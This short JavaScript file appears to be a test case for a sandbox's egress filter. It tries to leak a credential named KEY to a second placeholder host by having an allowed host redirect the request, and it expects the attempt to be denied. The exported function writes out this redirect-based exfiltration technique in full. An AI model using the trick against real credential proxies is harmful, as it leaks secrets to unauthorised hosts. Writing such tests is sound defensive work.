export const attempt = {
  tries: "to send an exposed value to another host with a redirect",
  blockedBecause: "each redirect is a separate request, which is searched",
  ends: { code: "egress_denied", message: "the credential KEY is not allowed for this host" },
  seen: ["GET /to"],
  allowedHosts: ["http://{witness}", "http://{other}"],
  keyHosts: ["http://{witness}"],
  keyIsExposed: true,
};

export default async ({ witness, other }, { credentials }) => {
  const url = encodeURIComponent(`http://${other}/sent-on`);
  await fetch(`http://${witness}/to?url=${url}`, { headers: { "x-key": credentials.KEY } });
  return "got through";
};
